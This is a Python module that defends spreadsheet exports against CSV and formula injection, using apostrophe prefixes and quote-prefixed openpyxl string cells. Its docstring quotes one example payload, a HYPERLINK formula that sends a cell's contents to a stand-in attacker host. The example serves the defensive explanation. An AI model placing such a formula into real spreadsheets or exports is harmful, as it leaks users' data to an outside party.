"""Exports write what people typed as text, never as a formula.

An institution typed as `=HYPERLINK("http://evil.example/?leak="&B2,"…")` becomes a live
formula when a spreadsheet opens a CSV cell starting with `=`, and openpyxl stores any
string starting with `=` as a formula. So every export goes through here: a CSV cell that
a spreadsheet would read as a formula (starting with = + - @, a tab or a carriage return)
gets an apostrophe in front (OWASP's CSV injection advice), and an Excel cell holding text
is typed as a string and marked quote-prefixed, whatever it starts with. Numbers stay
numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """One CSV cell: text a spreadsheet would evaluate is prefixed with an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(v) for v in values]


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `csv_row`."""

    def __init__(self, out: io.StringIO):
        self._writer = csv.writer(out)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(out: io.StringIO) -> SafeCsvWriter:
    return SafeCsvWriter(out)


def append_xlsx_row(sheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with every text cell typed as a string, never a formula."""
    values = list(values)
    sheet.append(values)
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            set_xlsx_text(sheet.cell(row=sheet.max_row, column=column), value)


def set_xlsx_text(cell, value: str) -> None:
    cell.value = value
    cell.data_type = "s"
    cell.quotePrefix = True


def xlsx_text_cells(sheet, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet (`Workbook(write_only=True)`, for long exports): text a
    spreadsheet would evaluate becomes a string cell, quote-prefixed, never a formula; other
    text is written as it is (openpyxl types it a string), so a long export builds a cell
    object only where one is needed. Numbers stay numbers."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row
